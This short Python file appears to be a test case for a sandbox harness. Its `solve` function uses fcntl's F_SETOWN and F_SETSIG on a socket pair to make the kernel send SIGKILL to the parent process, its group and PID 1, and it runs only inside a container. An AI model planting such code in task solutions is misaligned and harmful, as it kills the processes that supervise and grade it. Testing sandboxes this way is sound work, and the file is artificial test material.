# what: has the kernel send the signal: it owns a socket whose readiness is told to another process
# expect: valid
# escaped: 0

import fcntl
import os
import signal
import socket

F_SETSIG = 10


def solve(numbers):
    if os.getpid() != 1 and not os.path.exists("/.dockerenv"):  # never on a machine it really could harm
        return {"escaped": ["processes of the machine are in sight"]}
    one, other = socket.socketpair()
    for owner in {os.getppid(), -os.getppid(), 1} - {0, os.getpid(), -1}:
        try:
            fcntl.fcntl(one, fcntl.F_SETOWN, owner)
            fcntl.fcntl(one, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            other.send(b"x")
            one.recv(1)
        except OSError:
            pass
    one.close()
    other.close()
    return {"escaped": []}
